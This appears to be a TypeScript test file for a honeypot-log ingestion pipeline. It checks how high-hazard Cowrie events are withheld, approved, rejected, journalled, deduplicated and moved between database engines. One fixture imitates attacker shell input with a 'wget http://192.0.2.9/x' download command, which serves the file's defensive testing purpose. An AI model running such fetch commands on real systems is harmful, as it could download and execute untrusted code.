/** Withheld events: which are, that they are in no answer, and that a decision leaves what it should. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { verifyStore } from '../../src/pipeline/verify.ts'
import { fingerprint } from '../../src/store/repo/stats.ts'
import type { SqliteStore } from '../../src/store/sqlite/store.ts'
import { moveStore } from '../../src/store/transfer/move.ts'
import { ENGINES, eachEngine } from '../support/engines.ts'
import {
  event,
  events,
  type Fields,
  Lab,
  type LabLoad,
  lines,
  VERIFY_ALL,
  withLimits,
} from '../support/loading.ts'
import { fc } from '../support/property.ts'
import {
  ALL,
  answersOf,
  approveAll,
  approveIn,
  HAZARDS,
  type Held,
  heldEvents,
  heldKeys,
  NONE,
  problemsOf,
  rejectIn,
} from '../support/review.ts'

/** A hazard at an instant of its own. */
function hazard(n: number, overrides: Fields = {}): Fields {
  const at = new Date(Date.UTC(2026, 4, 3) + n * 1_000).toISOString().replace('Z', '000Z')
  return event({ timestamp: at, ...HAZARDS[n % HAZARDS.length], ...overrides })
}

const SENSORS = ['sensor-1', 'sensor-2']
/** Sessions that are withheld whole, in part, or not at all; odd ids, and events of no session. */
const SESSIONS = ['a1b2c3d4e5f6', '00ab', 'ODD "id"', '', 'ffffffffffff']

/** Ordinary events and hazards of the same sessions on two sensors, over midnight, with ties and drift. */
function mixed(count: number): Fields[] {
  return Array.from({ length: count }, (_, i): Fields => {
    const base = {
      sensor: SENSORS[i % 2],
      session: SESSIONS[i % SESSIONS.length],
      // Some at the same instant, with other addresses.
      timestamp: new Date(Date.UTC(2026, 4, 1, 23, 59) + Math.floor(i / 4) * 4_000)
        .toISOString()
        .replace('Z', '000Z'),
      src_ip: `192.0.2.${i % 7}`,
      n: i,
    }
    if (i % 3 === 0 || base.session === 'ffffffffffff')
      return event({ ...base, ...HAZARDS[i % HAZARDS.length], unheard: true })
    switch (i % 7) {
      case 1:
        return event({
          ...base,
          eventid: 'cowrie.session.connect',
          protocol: 'ssh',
          dst_port: 'odd',
        })
      case 2:
        return event({ ...base, eventid: 'cowrie.session.closed', duration: `${i}.5` })
      case 3:
        return event({ ...base, eventid: 'cowrie.command.input', input: 'wget http://192.0.2.9/x' })
      case 4:
        return event({ ...base, eventid: 'cowrie.client.kex', hassh: `hassh ${i % 3}` })
      default:
        return event({ ...base, password: `p${i % 5}` })
    }
  })
}

/** The same events in another spelling: other bytes, so another source. */
const spelled = (of: readonly Fields[]): string => lines(of).replaceAll('","', '",  "')

eachEngine((engine) => {
  test('a withheld event in a file of thousands of sessions verifies: slow', async () => {
    await using lab = await Lab.open()
    // More sessions than verification keeps the names of, and one that only its withheld event names.
    lab.write('many.json', lines([...events(4_200), hazard(0, { session: 'withheld' })]))
    await lab.load()
    assert.equal((await heldEvents(lab)).length, 1)
    assert.deepEqual(await problemsOf(lab.store), [])
  })

  /** A store in which nothing was withheld. */
  async function calm(text: string): Promise<Lab> {
    const lab = await Lab.open()
    lab.write('a.json', text)
    await lab.load({ holdHazard: NONE })
    return lab
  }

  async function loaded(text: string, options: LabLoad = {}): Promise<Lab> {
    const lab = await Lab.open()
    lab.write('a.json', text)
    await lab.load(options)
    return lab
  }

  const fingerprintOf = (lab: Lab): Promise<string> => fingerprint(lab.store.fingerprintRows())

  describe('which events are withheld', () => {
    const log = mixed(120)

    test('is the same for any cut into chunks, batches and transactions, any order of files and any number of threads', async () => {
      const expected = await (async () => {
        await using lab = await loaded(lines(log))
        return { keys: await heldKeys(lab), fingerprint: await fingerprintOf(lab) }
      })()
      assert.ok(expected.keys.length > 30)
      const files = [0, 1, 2, 3].map((n) => lines(log.filter((_, i) => i % 4 === n)))
      for (const [limits, order, options] of [
        [{ batchRecordsMax: 1 }, [0, 1, 2, 3], {}],
        [{ batchRecordsMax: 7, transactionRecordsMax: 10 }, [3, 1, 0, 2], { chunkBytes: 97 }],
        [{ transactionRecordsMax: 1 }, [2, 3, 1, 0], { chunkBytes: 1 }],
        [{}, [1, 0, 3, 2], { threads: 1 }],
        [{}, [0, 3, 1, 2], { threads: 2 }],
      ] as const) {
        await using lab = await Lab.open()
        order.forEach((file, n) => {
          lab.write(`${n}.json`, files[file]!)
        })
        await withLimits(limits, async () => {
          const report = await lab.load(options)
          assert.equal(report.totals.held, expected.keys.length)
          assert.equal(report.totals.stored, log.length - expected.keys.length)
          assert.equal(report.balanced, true)
        })
        assert.deepEqual(await heldKeys(lab), expected.keys)
        assert.equal(await fingerprintOf(lab), expected.fingerprint)
        assert.deepEqual(await problemsOf(lab.store), [])
      }
    })

    test('does not depend on the events beside it', async () => {
      await using lab = await Lab.open()
      log.slice(0, 24).forEach((one, n) => {
        lab.write(`${n}.json`, lines([one]))
      })
      await lab.load()
      await using together = await loaded(lines(log.slice(0, 24)))
      assert.deepEqual(await heldKeys(lab), await heldKeys(together))
      assert.equal(await fingerprintOf(lab), await fingerprintOf(together))
    })

    test('depends on its hazard and the threshold alone: as high is withheld, lower is not', async () => {
      // The hazard of the clipboard is 97.
      const text = lines([hazard(0), event()])
      for (const [holdHazard, held] of [
        [96, 1],
        [97, 1],
        [98, 0],
      ] as const) {
        await using lab = await Lab.open()
        lab.write('a.json', text)
        const { totals } = await lab.load({ holdHazard })
        assert.deepEqual([totals.held, totals.stored], [held, 2 - held])
      }
    })
  })

  describe('a key that is there', () => {
    test('withheld, is a duplicate under another name, packed, and twice in one file', async () => {
      const text = lines(mixed(60))
      await using lab = await loaded(text)
      const before = await answersOf(lab.store)
      const held = await heldEvents(lab)
      lab.write('packed.json.gz', gzipSync(`${text}${text}`))
      lab.write('spelled.json', spelled(mixed(60)))
      const { totals } = await lab.load()
      // The packed one is known as a longer copy: its second half is read.
      assert.deepEqual([totals.stored, totals.held, totals.duplicate], [0, 0, 120])
      assert.deepEqual(await heldEvents(lab), held)
      assert.deepEqual(await answersOf(lab.store), before)
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('withheld or rejected, is a duplicate for a load that withholds nothing', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const [first] = await heldEvents(lab)
      await rejectIn(lab.store, first!.batch, [first!.record])
      const before = await answersOf(lab.store)
      lab.write('b.json', spelled(mixed(60)))
      const { totals } = await lab.load({ holdHazard: NONE })
      assert.deepEqual([totals.stored, totals.held, totals.duplicate], [0, 0, 60])
      assert.deepEqual(await answersOf(lab.store), before)
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('stored, is a duplicate for stricter rules', async () => {
      await using lab = await loaded(lines(mixed(60)), { holdHazard: NONE })
      const before = await answersOf(lab.store)
      lab.write('b.json', spelled(mixed(60)))
      const { totals } = await lab.load({ holdHazard: ALL })
      assert.deepEqual([totals.stored, totals.held, totals.duplicate], [0, 0, 60])
      assert.deepEqual(await answersOf(lab.store), before)
    })

    test('approved, is a duplicate', async () => {
      await using lab = await loaded(lines(mixed(60)))
      await approveAll(lab)
      lab.write('b.json', spelled(mixed(60)))
      const { totals } = await lab.load()
      assert.deepEqual([totals.stored, totals.held, totals.duplicate], [0, 0, 60])
      assert.deepEqual(await problemsOf(lab.store), [])
    })
  })

  test('withheld events are in no answer: a store without them says the same', async () => {
    const log = mixed(120)
    await using lab = await loaded(lines(log))
    const held = new Set(await heldKeys(lab))
    assert.ok(held.size > 30)
    await using without = await Lab.open()
    const ordinary: Fields[] = []
    for (const one of log) {
      const isHazard = HAZARDS.some((text) =>
        Object.entries(text).every(([field, value]) => one[field] === value),
      )
      if (!isHazard) ordinary.push(one)
    }
    assert.equal(ordinary.length, log.length - held.size)
    without.write('a.json', lines(ordinary))
    await without.load({ holdHazard: NONE })
    const { fingerprint: own, stats, ...answers } = await answersOf(lab.store)
    const { fingerprint: other, stats: others, ...expected } = await answersOf(without.store)
    assert.deepEqual(answers, expected)
    assert.deepEqual({ ...(stats as object), heldEvents: 0 }, others)
    assert.notEqual(own, other, 'the fingerprint is of stored and withheld events')
    await using nothingHeld = await calm(lines(log))
    assert.equal(own, await fingerprintOf(nothingHeld))
    // The one whose events are all withheld.
    const session = `select count(*) as n from sessions where session = 'ffffffffffff'`
    assert.deepEqual(await lab.all(session), [{ n: 0 }])
    assert.deepEqual(await nothingHeld.all(session), [{ n: 2 }])
  })

  describe('approval', () => {
    test('of everything, in any order and in any parts, leaves a store in which nothing was withheld', async () => {
      const log = mixed(40)
      await using never = await calm(lines(log))
      const { stats: calmStats, ...expected } = await answersOf(never.store)
      await fc.assert(
        fc.asyncProperty(
          fc.shuffledSubarray(log, { minLength: log.length, maxLength: log.length }),
          fc.integer({ min: 1, max: log.length }),
          fc.integer({ min: 3, max: 50 }),
          fc.infiniteStream(fc.nat()),
          async (order, cut, batchRecordsMax, choices) => {
            await using lab = await Lab.open()
            await withLimits({ batchRecordsMax }, async () => {
              lab.write('a.json', lines(order.slice(0, cut)))
              await lab.load()
              lab.write('b.json', lines(order.slice(cut)))
              // Some are approved before the rest of their sessions comes.
              await approveSome(lab, choices, 2)
              await lab.load()
            })
            assert.deepEqual(await problemsOf(lab.store), [])
            await approveSome(lab, choices, Number.POSITIVE_INFINITY)
            const { stats, ...answers } = await answersOf(lab.store)
            assert.deepEqual(answers, expected)
            assert.deepEqual(stats, calmStats)
            assert.deepEqual(await lab.all('select * from held_sessions'), [])
            assert.deepEqual(await problemsOf(lab.store), [])
          },
        ),
        { numRuns: engine.name === 'sqlite' ? 25 : 6 },
      )
    })

    async function approveSome(lab: Lab, choices: Iterator<number>, decisions: number) {
      const pick = (n: number): number => (choices.next().value as number) % n
      for (let n = 0; n < decisions; n += 1) {
        const waiting = await heldEvents(lab)
        if (waiting.length === 0) return
        const batches = [...new Set(waiting.map((one) => one.batch))]
        const batch = batches[pick(batches.length)]!
        const own = waiting.filter((one) => one.batch === batch)
        const records = own.filter(() => pick(3) > 0).map((one) => one.record)
        await approveIn(lab.store, batch, records.length === 0 ? undefined : records.reverse())
      }
    }

    test('is journalled, and the store verifies after each step', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const waiting = await heldEvents(lab)
      const [first, second, third] = waiting
      await approveIn(lab.store, first!.batch, [first!.record])
      assert.deepEqual(await problemsOf(lab.store), [])
      await rejectIn(lab.store, first!.batch, [second!.record, third!.record])
      assert.deepEqual(await problemsOf(lab.store), [])
      await approveIn(lab.store, first!.batch)
      assert.deepEqual(await problemsOf(lab.store), [])
      const entries = await lab.all<{ actor: string; action: string; detail: string }>(
        `select actor, action, subject, reason, detail from audit_log where action like 'event.%' order by seq`,
      )
      const subject = `held_events batch ${first!.batch}`
      assert.deepEqual(
        entries.map(({ detail, ...entry }) => ({ ...entry, ...JSON.parse(detail) })),
        [
          {
            ...{ actor: 'alice', action: 'event.approved', subject, reason: 'a test' },
            ...{ events: 1, records: String(first!.record), from: 'held', to: 'approved' },
          },
          {
            ...{ actor: 'alice', action: 'event.rejected', subject, reason: 'a test', events: 2 },
            records:
              third!.record === second!.record + 1
                ? `${second!.record}-${third!.record}`
                : `${second!.record},${third!.record}`,
            ...{ from: 'held', to: 'rejected' },
          },
          {
            ...{ actor: 'alice', action: 'event.approved', subject, reason: 'a test' },
            events: waiting.length - 3,
            records: (entries.at(-1) && JSON.parse(entries.at(-1)!.detail).records) as string,
            ...{ from: 'held', to: 'approved' },
          },
        ],
      )
      const decisions = await lab.all('select from_state, to_state from decisions order by id')
      assert.deepEqual(decisions, [
        { from_state: 'held', to_state: 'approved' },
        { from_state: 'held', to_state: 'rejected' },
        { from_state: 'held', to_state: 'approved' },
      ])
    })

    test('of a whole batch of the largest size is one entry, which verification reads', async () => {
      await using lab = await Lab.open()
      lab.write('a.json', lines(Array.from({ length: 4_100 }, (_, n) => hazard(n))))
      const { totals } = await lab.load()
      assert.equal(totals.held, 4_100)
      await approveIn(lab.store, (await heldEvents(lab))[0]!.batch)
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    for (const [name, one, other] of [
      ['an approval after an approval', approveIn, approveIn],
      ['a rejection after an approval', approveIn, rejectIn],
      ['an approval after a rejection', rejectIn, approveIn],
      ['a rejection after a rejection', rejectIn, rejectIn],
    ] as const) {
      test(`${name} is refused, and nothing changes`, async () => {
        await using lab = await loaded(lines(mixed(60)))
        const waiting = await heldEvents(lab)
        const { batch, record } = waiting[3]!
        await one(lab.store, batch, [record])
        const before = await stateOf(lab)
        const codes = { code: 'LOOKUP_NO_EVENT' }
        await assert.rejects(other(lab.store, batch, [record]), codes)
        // With others that still wait, too: all or nothing.
        await assert.rejects(other(lab.store, batch, [waiting[0]!.record, record]), codes)
        assert.deepEqual(await stateOf(lab), before)
        assert.deepEqual(await problemsOf(lab.store), [])
      })
    }

    async function stateOf(lab: Lab) {
      return {
        answers: await answersOf(lab.store),
        held: await heldEvents(lab),
        journal: await lab.all('select * from audit_log order by seq'),
      }
    }

    test('of records that are none, or in a batch that withheld nothing, is refused', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const [{ batch } = { batch: 0 }] = await heldEvents(lab)
      const before = await stateOf(lab)
      for (const [no, records, code] of [
        [batch, [999_999], 'LOOKUP_NO_EVENT'],
        [batch, [], 'LOOKUP_NO_EVENT'],
        [batch + 1, undefined, 'LOOKUP_NO_BATCH'],
      ] as const) {
        await assert.rejects(approveIn(lab.store, no, records), { code })
        await assert.rejects(rejectIn(lab.store, no, records), { code })
      }
      assert.deepEqual(await stateOf(lab), before)
    })

    test('by two reviewers at once happens once', async () => {
      await using lab = await loaded(lines(mixed(60)))
      await using never = await calm(lines(mixed(60)))
      const [{ batch } = { batch: 0 }] = await heldEvents(lab)
      const other = await lab.openAgain()
      try {
        const results = await Promise.allSettled([
          approveIn(lab.store, batch),
          approveIn(other, batch),
        ])
        const refused = results.filter((one) => one.status === 'rejected')
        assert.equal(refused.length, 1)
        assert.match(
          (refused[0]!.reason as { code: string }).code,
          /^(STORE_BUSY|LOOKUP_NO_EVENT)$/,
        )
      } finally {
        await other.close()
      }
      assert.deepEqual(await answersOf(lab.store), await answersOf(never.store))
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('and rejection at once: one of them happens', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const [{ batch } = { batch: 0 }] = await heldEvents(lab)
      const other = await lab.openAgain()
      try {
        const results = await Promise.allSettled([
          approveIn(lab.store, batch),
          rejectIn(other, batch),
        ])
        assert.equal(results.filter((one) => one.status === 'rejected').length, 1)
      } finally {
        await other.close()
      }
      const states = new Set((await heldEvents(lab)).map((one) => one.state))
      assert.ok(states.size === 0 || (states.size === 1 && states.has('rejected')))
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    /** With the triggers that are there: those of a tampered store come back. */
    const change = async (lab: Lab, statement: string): Promise<void> => {
      if (engine.name === 'sqlite') (lab.store as SqliteStore).connection.exec(statement)
      else await lab.tamper(statement)
    }

    test('that breaks off leaves nothing of it, and can be made again', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const before = await stateOf(lab)
      const [{ batch } = { batch: 0 }] = before.held
      // At each table that it writes, in the middle of the transaction.
      for (const [table, act] of [
        ['raw_events', 'insert'],
        ['held_events', 'delete'],
        ['audit_log', 'insert'],
        ['decisions', 'insert'],
        ['sessions', 'update'],
        ['session_values', 'insert'],
        ['daily_events', 'insert'],
        ['daily_verdicts', 'insert'],
        ['held_sessions', 'delete'],
      ] as const) {
        await change(lab, breaking(engine.name, table, act))
        try {
          await assert.rejects(approveIn(lab.store, batch), `${act} of ${table}`)
        } finally {
          await change(lab, mended(engine.name, table))
        }
        assert.deepEqual(await stateOf(lab), before, `${act} of ${table}`)
      }
      assert.deepEqual(await problemsOf(lab.store), [])
      await approveIn(lab.store, batch)
      await using never = await calm(lines(mixed(60)))
      assert.deepEqual(await answersOf(lab.store), await answersOf(never.store))
      assert.deepEqual(await problemsOf(lab.store), [])
    })
  })

  describe('rejection', () => {
    test('keeps the row and its key out of every answer', async () => {
      await using lab = await loaded(lines(mixed(60)))
      const before = await answersOf(lab.store)
      const waiting = await heldEvents(lab)
      for (const batch of new Set(waiting.map((one) => one.batch))) await rejectIn(lab.store, batch)
      assert.deepEqual(
        await heldEvents(lab),
        waiting.map((one): Held => ({ ...one, state: 'rejected' })),
      )
      assert.deepEqual(await answersOf(lab.store), before)
      assert.deepEqual(await problemsOf(lab.store), [])
    })
  })

  describe('a session whose events are all withheld', () => {
    for (const [name, session] of [
      ['with an ordinary id', 'a1b2c3d4e5f6'],
      ['with an id that no number stands for', 'ODD "id"'],
      ['that is none', ''],
    ] as const) {
      for (const order of ['before', 'after'] as const) {
        test(`${name} keeps its key when more of it is stored ${order} the approval`, async () => {
          const first = [0, 1, 2].map((n) => hazard(n, { session, src_ip: '192.0.2.77' }))
          const later = events(3, { session })
          await using lab = await loaded(lines(first))
          const row = `select count(*) as n from sessions`
          assert.deepEqual(await lab.all(row), [{ n: 0 }])
          const [{ batch } = { batch: 0 }] = await heldEvents(lab)
          lab.write('b.json', lines(later))
          if (order === 'before') await lab.load()
          await approveIn(lab.store, batch, [1])
          assert.deepEqual(await lab.all(row), [{ n: 1 }])
          if (order === 'after') await lab.load()
          await approveIn(lab.store, batch)
          assert.deepEqual(
            await lab.all(
              'select distinct session_key from raw_events union select session_key from sessions',
            ),
            [...(await lab.all('select session_key from sessions'))],
          )
          await using never = await calm(lines([...first, ...later]))
          assert.deepEqual(await answersOf(lab.store), await answersOf(never.store))
          assert.deepEqual(await problemsOf(lab.store), [])
        })
      }
    }

    test('is another one on another sensor, and no event goes astray', async () => {
      const one = [0, 1].map((n) => hazard(n, { sensor: 'sensor-1' }))
      const other = [0, 1].map((n) => hazard(n, { sensor: 'sensor-2' }))
      await using lab = await loaded(lines([...one, ...other]))
      const [{ batch } = { batch: 0 }] = await heldEvents(lab)
      await approveIn(lab.store, batch, [2])
      assert.deepEqual(
        await lab.all(
          'select name, event_count from sessions join sensors on sensors.id = sensor_id',
        ),
        [{ name: 'sensor-2', event_count: 1 }],
      )
      await approveIn(lab.store, batch)
      await using never = await calm(lines([...one, ...other]))
      assert.deepEqual(await answersOf(lab.store), await answersOf(never.store))
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('keeps its key when other sessions begin meanwhile', async () => {
      await using lab = await loaded(lines([hazard(0, { session: 'withheld one' })]))
      for (let n = 0; n < 4; n += 1) {
        lab.write(`${n}.json`, lines(events(5, { sensor: `other-${n}`, session: `odd ${n}` })))
        await lab.load()
      }
      await approveAll(lab)
      assert.deepEqual(await problemsOf(lab.store), [])
      assert.equal((await lab.all('select 1 from sessions')).length, 5)
    })
  })

  test('a move to the other engine and back keeps withheld, rejected and approved events', async () => {
    const other = ENGINES.find((one) => one.name !== engine.name)!
    if (other.missing !== false) return
    await using origin = await loaded(lines(mixed(90)))
    const waiting = await heldEvents(origin)
    const { batch } = waiting[0]!
    await approveIn(
      origin.store,
      batch,
      waiting.slice(0, 5).map((one) => one.record),
    )
    await rejectIn(
      origin.store,
      batch,
      waiting.slice(5, 9).map((one) => one.record),
    )
    await using there = await Lab.open(other)
    await using back = await Lab.open(engine)
    for (const [from, to] of [
      [origin, there],
      [there, back],
    ] as const) {
      // A move fills a store that is empty.
      for (const table of ['signing_keys', 'audit_log']) await to.tamper(`delete from ${table}`)
      const { problems } = await moveStore({
        from: from.store,
        to: to.store,
        command: 'test',
        signal: new AbortController().signal,
        progress: () => {},
        verify: async (reads) => {
          const found = await verifyStore(reads, VERIFY_ALL)
          return [found.seals, found.view, found.summaries, found.journal].flatMap(
            (one) => one.problems,
          )
        },
      })
      assert.deepEqual(problems, [])
      assert.deepEqual(await answersOf(to.store), await answersOf(origin.store))
      assert.deepEqual(await heldEvents(to), await heldEvents(origin))
      assert.deepEqual(await problemsOf(to.store), [])
    }
    await approveAll(there)
    await approveAll(origin)
    assert.deepEqual(await answersOf(there.store), await answersOf(origin.store))
    assert.deepEqual(await problemsOf(there.store), [])
  })
})

/** A trigger that makes a write fail. */
function breaking(engine: string, table: string, act: string): string {
  if (engine === 'sqlite')
    return `create trigger broken_${table} before ${act} on ${table} begin select raise(abort, 'broken'); end`
  return `create function broken_${table}() returns trigger language plpgsql as $$ begin raise exception 'broken'; end $$;
    create trigger broken_${table} before ${act} on ${table} for each row execute function broken_${table}()`
}

function mended(engine: string, table: string): string {
  if (engine === 'sqlite') return `drop trigger broken_${table}`
  return `drop trigger broken_${table} on ${table}; drop function broken_${table}()`
}
